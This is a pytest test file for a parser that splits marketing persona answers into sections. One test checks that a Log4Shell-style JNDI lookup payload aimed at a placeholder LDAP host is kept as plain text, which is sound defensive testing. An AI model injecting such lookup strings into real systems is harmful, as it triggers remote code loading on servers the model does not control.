"""The reader of answers."""

import re
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from ruamel.yaml import YAML

from persona.check import sections
from persona.check.answer import NO_PATTERN, CheckedAnswer, read_answers
from persona.check.facts import facts_of
from persona.check.sections import cut
from persona.errors import Invalid
from persona.model import NextStep, Persona, Strategy, Summary

DATA = Path(__file__).parent / "data"


def answer(name: str) -> str:
    """A recorded answer without its first line, which names its origin."""
    return (DATA / f"{name}.md").read_text(encoding="utf-8").partition("\n")[2]


def read(body: str, summary: Summary, *more: str) -> CheckedAnswer:
    """An answer, and further ones in its thread, read with the summary's own facts."""
    return read_answers([body, *more], summary, facts_of(summary, "$"), "$")


def sections_of(body: str, channels: Sequence[str] = ("web", "mobile", "email")) -> dict[str, str]:
    """What an answer is cut into, without what belongs to no section."""
    return {path: text for path, text in cut(body, channels).items() if path}


def test_the_seeds_example_gives_three_personas_with_their_sections_apart(seed_summary: Summary) -> None:
    """Also the pattern that the summary does not show: it is what the author said."""
    mobile, *others = read(answer("seed_answer"), seed_summary).personas

    assert [(persona.pattern, persona.name) for persona in others] == [
        ("email_dominant", "The Inbox Dweller"),
        ("omnichannel", "The Power Orchestrator"),
    ]
    assert mobile == Persona(
        pattern="mobile_dominant",
        name="The On-The-Go Operator",
        description="Power user who runs their business from their phone. 22 mobile sessions\n"
        "vs. 14 web sessions per month. LTV: $890. Pro plan.",
        why_dominant="They manage in motion — between meetings, on commutes,\nduring events. Mobile "
        "gives them quick-check capability without context-\nswitching from other work.",
        reach_on_weak='Desktop email with "Continue on Desktop" CTAs for\ncomplex tasks (reports, settings). '
        "They use web for setup, mobile for\nmonitoring.",
        journey="Discovers on web → installs mobile → daily mobile check-ins\n"
        "→ monthly web deep-dive → upgrade decision on desktop.",
    )


def test_the_seeds_example_has_its_strategy(seed_summary: Summary) -> None:
    """Adaptation is the other half of consistency; a second label of one section is kept in its text."""
    assert read(answer("seed_answer"), seed_summary).strategy == Strategy(
        consistency="Value proposition, core metrics, notification content\n"
        "- **Adaptation:** Layout (mobile-optimized cards vs. desktop tables),\n  depth (email summaries → "
        "web details), interaction (mobile gestures\n  vs. desktop keyboard shortcuts)",
        identity_resolution="30% of profiles have only 2 identifiers. Push\nmobile app install and email "
        "verification to resolve anonymous web\nvisitors to known profiles.",
    )


def test_what_the_seeds_example_lacks_is_listed(seed_summary: Summary) -> None:
    """Only for the patterns that the summary shows."""
    email = "reach_on_weak journey formats next_step"
    omnichannel = "why_dominant reach_on_weak formats risk next_step"
    assert read(answer("seed_answer"), seed_summary).checks.missing_sections == [
        *(f"email_dominant/{section}" for section in email.split()),
        *(f"omnichannel/{section}" for section in omnichannel.split()),
        "strategy/switch_moments",
    ]


def test_a_next_step_may_be_indented_with_any_space(space_summary: Summary) -> None:
    text = "## Web Dominant\n\n### Next step\n\n\u00a0Channel: email\n\u00a0Action:\u00a0Send one mail"
    step = read(text, space_summary).personas[0].next_step
    assert step == NextStep(action="Send one mail", channel="email", measure=None)


NAMES = ["The Desk Planner", "The On-The-Go Operator", "The Inbox Dweller", "The Power Orchestrator"]


def test_headings_in_other_words_are_understood(space_summary: Summary) -> None:
    """Numbers, emoji, quotes of all kinds, the name before the pattern, sections worded anew."""
    reading = read(answer("answer_headings"), space_summary)
    steps = [f"{pattern.key}/next_step" for pattern in space_summary.patterns]

    assert ([persona.name for persona in reading.personas], reading.checks.missing_sections) == (NAMES, steps)


SECTIONS = {
    "words": (0, "description", "Plans at a desk and finishes what was begun elsewhere. Average LTV $413."),
    "a bullet is none": (0, "reach_on_weak", "- **Message:** one open task\n- **Format:** a short mail"),
    "headings within a section": (0, "formats", "#### Web\nTables.\n#### Email content\nDigest."),
    "text in the heading": (0, "risk", "medium\nLosing the web would end it."),
    "under Persona": (1, "description", "Runs the business from a phone. 22.3 sessions in 30 days."),
    "steps are no points": (1, "journey", "1. Push\n2. App\n3. Web"),
    "motivation": (2, "why_dominant", "No log-in needed."),
}


@pytest.mark.parametrize(("number", "section", "expected"), SECTIONS.values(), ids=SECTIONS)
def test_sections_hold_their_own_text(
    space_summary: Summary, number: int, section: str, expected: str
) -> None:
    persona = read(answer("answer_headings"), space_summary).personas[number]

    assert getattr(persona, section) == expected


def test_a_conclusion_belongs_to_no_section(space_summary: Summary) -> None:
    framework = read(answer("answer_headings"), space_summary)

    assert "every quarter" in framework.narrative
    assert framework.strategy.switch_moments == "A push that needs a keyboard."


def test_bold_titles_and_run_in_labels_are_understood(space_summary: Summary) -> None:
    """A bullet that only speaks of a pattern opens none where a title does."""
    web, email = read(answer("answer_bold"), space_summary).personas

    assert (web, email) == (
        Persona(
            pattern="web_dominant",
            name="The Desk Planner",
            description="A careful buyer. They compare before they choose.",
            why_dominant="Room for comparison.",
            reach_on_weak="Saved carts.\n**Reach on email:** Price alerts.",
            risk="MEDIUM. They leave when search is slow.",
        ),
        Persona(
            pattern="email_dominant",
            name="The Inbox Dweller",
            description="Lives in the inbox. 11.6 opens a month.",
            journey="Mail, then web.",
            formats="| Channel | Format |\n| --- | --- |\n| Email | Digest |\n| Web | Landing page |",
        ),
    )


def test_numbered_points_are_kept_whole_with_labels_and_without(space_summary: Summary) -> None:
    """The message asks for headings: what has neither heading nor label is of no section, and not lost."""
    mobile, email, *_ = read(answer("answer_numbered"), space_summary).personas

    assert email == Persona(
        pattern="email_dominant",
        description='1. "The Inbox Dweller" — reads at breakfast. Clicks rarely.\n'
        "2. Mail asks for no log-in.\n3. Deep links into the app.\n4. Mail, then web.\n"
        "5. Digests in mail, landing pages on the web.\n"
        "6. Poor mails would end it.",
    )
    # What has a label keeps what is nested below.
    assert mobile.why_dominant == "speed.\n- **Need:** control\n- **Risk avoided:** missed orders"
    assert mobile.risk == "push fatigue."


def test_an_answer_in_a_fence_is_taken_out_of_it(space_summary: Summary) -> None:
    """Keys for headings, tables as text; what follows the fence is no part of its last section."""
    web, email = read(answer("answer_tables"), space_summary).personas

    table = "| Channel | Format | Risk |\n| --- | --- | --- |\n| Web | Tables | low |"

    assert web.description == "| | |\n| --- | --- |\n| People | 156 |\n| Share | 30.0 % |"
    assert (web.formats, email.journey) == (f"{table}\n| **Email:** | Digest | - |", "Mail → web")


def test_html_is_text_and_code_titles_nothing(space_summary: Summary) -> None:
    """Making it harmless is the renderer's part; the reader keeps it and is not led astray."""
    (web,) = read(answer("answer_hostile"), space_summary).personas

    assert web.name == "The Desk Planner"
    assert web.risk == "(no such figure) and ${jndi:ldap://example.invalid/a}"


def test_an_answer_without_any_pattern_is_kept_whole(seed_summary: Summary) -> None:
    """It was paid for: its words stand as they came, all sections are missing, a warning says so."""
    body = "# Personas\n\nNothing to say about **Mobile Dominant**.\n"
    framework = read(body, seed_summary)

    assert (framework.narrative, framework.personas, framework.warnings) == (body, [], [NO_PATTERN])
    assert len(framework.checks.missing_sections) == 2 * 8 + 3


MARKS = {
    "a number sign far in": "- Step one\n\n      # of visits: 3",
    "another fence within a fence": "```text\n~~~\na b\n```",
    "a fence that ends in its line": "```a -> b``` in a line",
    "a heading within a fence": "```\n## Risk\n```",
}


@pytest.mark.parametrize("journey", MARKS.values(), ids=MARKS)
def test_what_looks_like_a_mark_ends_no_section(space_summary: Summary, journey: str) -> None:
    end = "### Risk\nSome.\n\n## Mobile Dominant\n### Risk\nMore."
    web, mobile = read(f"## Web Dominant\n### Journey\n{journey}\n\n{end}", space_summary).personas
    assert (web.journey, web.risk, mobile.risk) == (journey, "Some.", "More.")


def test_an_answer_that_is_one_indented_quotation_is_read(space_summary: Summary) -> None:
    quoted = "\n".join(f"  > {line}" for line in ["## Web Dominant", "### Journey", "Mail → web."])
    assert read(quoted, space_summary).personas[0].journey == "Mail → web."


def test_an_answer_without_any_text_is_invalid(seed_summary: Summary) -> None:
    with pytest.raises(Invalid, match="expected an answer in words") as failure:
        read(" \n", seed_summary)

    assert failure.value.code == "mave_invalid"


QUESTIONS = {
    "recorded": (answer("answer_question"), True),
    "one sentence": ("Which product do you sell?", True),
    "another script's question mark": ("要不要更多数据\uff1f", True),
    "no question": ("I cannot help with that.", False),
    "a mark in an address": ("See https://example.com/?a=1 for more.", False),
    "an answer that offers more": (answer("answer_bold") + "\nShall I go on?", False),
    "only a strategy": ("## Overall strategy\n### Consistency\nWho would disagree?", False),
}


@pytest.mark.parametrize(("text", "expected"), QUESTIONS.values(), ids=QUESTIONS)
def test_a_clarifying_question_is_told_from_an_answer(
    space_summary: Summary, text: str, *, expected: bool
) -> None:
    assert read(text, space_summary).asks_back == expected


def test_a_second_answer_fills_and_overwrites_nothing(space_summary: Summary) -> None:
    """Personas stand in the rule's order, the first answer's words stay, what is missing is counted anew."""
    merged = read(answer("answer_bold"), space_summary, answer("answer_follow_up"))
    web, mobile, email = merged.personas

    assert (web.why_dominant, web.journey, email.risk) == (
        "Room for comparison.",
        "Mail → web.",
        "Poor mails.",
    )
    assert (mobile.name, merged.strategy.identity_resolution) == ("The On-The-Go Operator", "Ask early.")
    assert [path for path in merged.checks.missing_sections if path.startswith(("web", "email"))] == [
        "web_dominant/next_step",
        *(f"email_dominant/{section}" for section in ("why_dominant", "reach_on_weak", "next_step")),
    ]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("## Mobile Dominant", None),
        ("## Mobile Dominant (N=182, 35 %)", None),
        ("## Mobile Dominant: 35% of users", None),
        ("## Mobile Dominant — “The Operator”", "The Operator"),
        ("## 1. Mobile Dominant - The Operator", "The Operator"),
        ("### Pattern 2: Mobile-Dominant: The Operator", "The Operator"),
        ("# **Mobile\u2011Dominant Users** (*'The Operator'*)", "The Operator"),
        ("#### mobile_dominant | The Operator", "The Operator"),
        ("## 📱 MOBILE DOMINANT \u2013 «The Operator»", "The Operator"),
        ("## The Operator (Mobile Dominant)", "The Operator"),
        ('## Persona 1: "The Operator" — Mobile Dominant (35 %)', "The Operator"),
        ("## Persona: The Operator (Mobile Dominant)", "The Operator"),
        ("## Title: The Operator (Mobile Dominant)", "The Operator"),
        ("## The Operator [Mobile Dominant, 35 %]", "The Operator"),
        ("## The Operator\n\n*Mobile Dominant*", "The Operator"),
        ("## 1. The Operator\n**Pattern:** Mobile Dominant", "The Operator"),
        ("## Persona 2: The Operator\nMobile Dominant", "The Operator"),
        ("## The Operator\nPattern: Mobile Dominant (35 %)", "The Operator"),
        ("**Mobile Dominant \u2013 The Operator**", "The Operator"),
        ('**Mobile Dominant** — "The Operator"', "The Operator"),
        ("**2. Mobile Dominant: The Operator**", "The Operator"),
        ('- **Mobile Dominant — "The Operator"**', "The Operator"),
        ("## Mobile Dominant\n### The Operator", "The Operator"),
        ("## Mobile Dominant\n\n### Persona: The Operator", "The Operator"),
        ("## Mobile Dominant\n\n### Persona — The Operator", "The Operator"),
        ("## Mobile Dominant\n**Name:** The Operator", "The Operator"),
        ("## Mobile Dominant\n**Persona: The Operator**", "The Operator"),
        ('## Mobile Dominant\n*"The Operator"*', "The Operator"),
        ("## Mobile Dominant\n**The Operator.** Busy all day.", None),
        ("## Mobile Dominant\n**They are busy.** All day.", None),
        ("## Mobile Dominant\n**Pro people** all day", None),
        ("## Mobile Dominant\n**Persona:** A busy owner who runs the shop from a phone, day and night", None),
        ("## Mobile Dominant\n“Always on” people with a phone.", None),
    ],
)
def test_patterns_and_names_are_found_however_they_are_titled(
    space_summary: Summary, title: str, name: str | None
) -> None:
    (persona,) = read(f"{title}\n\n**Risk:** high.\n", space_summary).personas

    assert (persona.pattern, persona.name, persona.risk) == ("mobile_dominant", name, "high.")


@pytest.mark.parametrize(
    ("title", "section"),
    [
        ("### Description", "description"),
        ("**Who they are:**", "description"),
        ("### Why mobile?", "why_dominant"),
        ("**Why they prefer mobile — what need it serves:**", "why_dominant"),
        ("### 2. Need served", "why_dominant"),
        ("### Reaching them on web and email", "reach_on_weak"),
        ("- **Weak channels** \u2013 ", "reach_on_weak"),
        ("### Re-engagement on other channels", "reach_on_weak"),
        ("### 🗺️ Journey Map", "journey"),
        ("**4. Cross-Channel Journey**", "journey"),
        ("__Journey:__ ", "journey"),
        ("### Content recommendations for weak channels", "formats"),
        ("### Why we could lose them", "risk"),
        ("**Churn risk (HIGH):** ", "risk"),
        ("**Risk: high.** ", "risk"),
        ("## Risk of Losing Them", "risk"),
        ("## Mobile Dominant — Journey", "journey"),
        ("### mobile_dominant/risk", "risk"),
        ("### Profile and motive", "description"),
        ("### Reach and route", "reach_on_weak"),
    ],
)
def test_sections_are_found_however_they_are_titled(title: str, section: str) -> None:
    body = f'## Mobile Dominant — "The Operator"\n\n{title}\nWords.\n'

    assert sections_of(body)[f"mobile_dominant/{section}"].endswith("Words.")


@pytest.mark.parametrize(
    ("title", "point"),
    [
        ("## Cross-Channel Strategy\n### Where to invest", "consistency"),
        ("# Strategic recommendations\n* **Moments of truth:** ", "switch_moments"),
        ("## Identity Resolution Opportunities", "identity_resolution"),
        ("## Channel-switch moments", "switch_moments"),
        ("## Consistency vs. adaptation", "consistency"),
    ],
)
def test_the_strategy_is_found_however_it_is_titled(title: str, point: str) -> None:
    body = f"## Omnichannel\n### Risk\nLow.\n\n{title}\nWords."

    assert sections_of(body) == {"omnichannel/risk": "Low.", f"strategy/{point}": "Words."}


SPOKEN_OF = {
    "a sentence that names it": "### Moving Mobile Dominant users to web",
    "a move between two": "### Mobile Dominant → Omnichannel",
    "a subheading that begins with it": "### Email Dominant users: what to do",
    "a bullet about it": "- **Mobile Dominant:** push first",
    "a label about it": "**Mobile Dominant:** push first",
    "a heading of a sentence's length": "## " + "Mobile Dominant " * 12,
}


@pytest.mark.parametrize("text", SPOKEN_OF.values(), ids=SPOKEN_OF)
def test_the_strategy_may_speak_of_patterns(space_summary: Summary, text: str) -> None:
    """A pattern that is only spoken of there takes no words away from it."""
    strategy = f"## Cross-Channel Strategy\n### Consistency\nWords.\n\n{text}\nMore."
    (persona,) = read(f'## Email Dominant — "A B"\nX.\n\n{strategy}', space_summary).personas

    assert persona.pattern == "email_dominant"


ANSWERS = YAML(typ="safe").load(DATA / "sections.yaml")


@pytest.mark.parametrize("name", ANSWERS)
def test_an_answer_is_cut_into_its_sections(name: str) -> None:
    assert sections_of(ANSWERS[name]["answer"]) == ANSWERS[name]["sections"]


LINES = st.sampled_from(
    [
        *(
            "## Web Dominant — “A B”",
            "**Omnichannel**",
            "## The C D",
            "Web Dominant",
            "# Strategy",
            "### Odd",
        ),
        *("### Risk", "**Why:** {}", "- **Journey:** {}", "Formats: {}", "**Identity gaps:** {}", "1. {}"),
        *("**Name:** {}", "### Persona", "**{}**"),
        *("{}", "- {}", "> {}", "  {}", "---", "```", "", "| {} | x |", "{}\n===", "**{}** and {}"),
    ]
)


@given(lines=st.lists(LINES, max_size=30))
def test_every_word_that_is_no_title_stands_in_exactly_one_place(lines: list[str]) -> None:
    """Nothing of a paid answer is lost or said twice, whatever it is titled with."""
    body = "\n".join(line.format(f"word{at}x", f"word{at}y") for at, line in enumerate(lines))
    found = re.findall(r"word\d+[xy]", " ".join(cut(body, ["web", "mobile", "email"]).values()))

    assert sorted(found) == sorted(re.findall(r"word\d+[xy]", body))


def test_channels_of_any_name_are_told_apart() -> None:
    """`in_app`, `app` and `a__p` are three, though one's name ends another's."""
    body = "## In App Dominant — “A B”\n\n## App Dominant — “C D”\n\n## A  P Dominant — “E F”\n"

    assert sections_of(body, ["app", "in_app", "a__p"]) == {
        "in_app_dominant/name": "A B",
        "app_dominant/name": "C D",
        "a__p_dominant/name": "E F",
    }


def test_beyond_the_cap_titles_are_not_looked_for_and_nothing_is_lost(space_summary: Summary) -> None:
    start = "## Omnichannel\n"
    body = start + "x" * (sections.MOST_CHARACTERS - len(start)) + "## Web Dominant\n"
    framework = read(body, space_summary)

    assert (len(framework.personas), framework.narrative) == (1, body)


@given(
    text=st.text(alphabet=st.characters(), max_size=300),
    risk=st.text(alphabet="#*- \n>`|:1.a\ud800\x00\r", max_size=200),
)
def test_no_text_breaks_the_reader(space_summary: Summary, text: str, risk: str) -> None:
    """Lone surrogates, control characters and stray marks included."""
    reading = read(f"## Web Dominant\nA.\n{text}\n\n### Risk\n{risk}", space_summary)

    assert reading.personas[0].pattern == "web_dominant"
